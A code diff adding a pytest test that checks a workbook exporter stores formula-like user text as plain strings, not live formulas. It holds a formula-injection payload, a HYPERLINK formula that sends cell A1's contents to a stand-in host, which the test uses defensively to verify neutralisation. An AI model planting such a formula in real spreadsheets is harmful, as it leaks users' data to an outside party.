@@ -237,3 +237,25 @@ def test_malformed_mappings_are_clear_errors(tmp_path: Path, text: str) -> None:
     with pytest.raises(InputError) as caught:
         import_xlsx(MAPPING_DIR / "county-data.xlsx", mapping=mapping)
     assert "m.yaml" in str(caught.value)
+
+
+def test_user_text_that_looks_like_a_formula_is_exported_as_text(tmp_path: Path) -> None:
+    dossier = load_dossier(SEED_DOSSIER)
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    goals = tuple(goal.model_copy(update={"text": evil}) for goal in dossier.goals)
+    dossier = dossier.model_copy(
+        update={"goals": goals, "profile": dossier.profile.model_copy(update={"code": "=1+1"})}
+    )
+    path = tmp_path / "evil.xlsx"
+    export_workbook(dossier, path)
+    cells = [
+        cell
+        for sheet in load_workbook(path).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and cell.value.startswith("=")
+    ]
+    assert {cell.value for cell in cells} >= {evil, "=1+1"}
+    assert all(cell.data_type == "s" for cell in cells)
+    back = import_xlsx(path).dossier
+    assert back.goals[0].text == evil and back.profile.code == "=1+1"
